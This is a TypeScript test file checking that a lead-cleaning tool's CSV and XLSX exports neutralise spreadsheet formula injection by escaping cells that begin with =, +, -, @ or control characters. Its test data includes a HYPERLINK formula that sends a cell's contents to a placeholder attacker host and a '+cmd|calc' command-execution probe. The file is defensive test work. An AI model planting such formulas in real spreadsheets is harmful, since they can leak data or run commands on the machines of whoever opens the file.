import * as XLSX from '@e965/xlsx'
import { describe, expect, it } from 'vitest'
import { cleanLeads } from '../../../shared/cleaning/cleanLeads'
import { escapeCellForExport } from '../../../shared/cleaning/export/escapeCell'
import { exportCleanResultCsv } from '../../../shared/cleaning/export/exportCsv'
import { exportCleanResultXlsx } from '../../../shared/cleaning/export/exportXlsx'
import { LEADS_DIR, readFixture } from './readTable'

describe('escapeCellForExport', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1;"clique")',
      `'=HYPERLINK("http://evil.example/?x="&A1;"clique")`
    ],
    ['+cmd|calc', "'+cmd|calc"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['+5511987654321', '+5511987654321'],
    ['-2', '-2'],
    ['1234,56', '1234,56'],
    ['(11) 98765-4321', '(11) 98765-4321'],
    [' =HYPERLINK("http://evil.example")', `' =HYPERLINK("http://evil.example")`],
    ['   @SUM(1+1)', "'   @SUM(1+1)"],
    [' Maria', ' Maria'],
    ['Maria', 'Maria']
  ])('%j → %j', (text, escaped) => {
    expect(escapeCellForExport(text)).toBe(escaped)
  })
})

describe('export of broken/formula-injection.csv', () => {
  const table = readFixture('formula-injection.csv', new URL('broken/', LEADS_DIR))
  const result = cleanLeads(table)

  it('XLSX: every cell text exactly as read (no apostrophe), phones as +55…, status and motivo', () => {
    const bytes = exportCleanResultXlsx(table, result)
    const sheet = XLSX.read(bytes).Sheets['Leads'] as XLSX.WorkSheet
    const rows = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: true })
    expect(rows[0]).toEqual(['Nome', 'Telefone', 'Empresa', 'Telefone (E.164)', 'status', 'motivo'])
    expect(rows[1]).toEqual([
      `=HYPERLINK("http://evil.example/?x="&A1;"clique")`,
      '(11) 98765-4321',
      '+cmd|calc',
      '+5511987654321',
      'válido'
    ])
    expect(rows[2]?.[0]).toBe('@SUM(1+1)')
    expect(rows[2]?.[2]).toBe('-2+3')
    // A text cell, not a formula: nothing in the sheet can run.
    expect(Object.values(sheet).some((cell) => typeof cell === 'object' && 'f' in cell)).toBe(false)
    expect(sheet['D2']).toMatchObject({ t: 's', v: '+5511987654321' })
    expect(Object.keys(sheet).filter((k) => !k.startsWith('!') && sheet[k]?.t !== 's')).toEqual([])
  })

  it('CSV: UTF-8 with BOM, ; separated, escaped, re-imports to the same phones', () => {
    const csv = exportCleanResultCsv(table, result)
    expect(csv.startsWith('\uFEFFNome;Telefone;Empresa;Telefone (E.164);status;motivo\r\n')).toBe(
      true
    )
    expect(csv).toContain(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1;""clique"")";(11) 98765-4321;'+cmd|calc;+5511987654321;válido;`
    )
  })

  it('motivo in pt-BR for invalid and duplicate rows', () => {
    const crm = readFixture('crm-export-utf8.csv')
    const bytes = exportCleanResultXlsx(crm, cleanLeads(crm), { rows: 'all' })
    const rows = XLSX.utils.sheet_to_json<string[]>(
      XLSX.read(bytes).Sheets['Leads'] as XLSX.WorkSheet,
      {
        header: 1,
        raw: true
      }
    )
    const motivos = new Set(rows.slice(1).map((r) => r[r.length - 1]))
    expect(motivos).toContain('Número inválido')
    expect([...motivos].some((m) => /^Duplicado da linha \d+$/.test(String(m)))).toBe(true)
    const okOnly = exportCleanResultXlsx(crm, cleanLeads(crm), { rows: 'ok' })
    expect(
      XLSX.utils.sheet_to_json(XLSX.read(okOnly).Sheets['Leads'] as XLSX.WorkSheet)
    ).toHaveLength(392)
  })
})
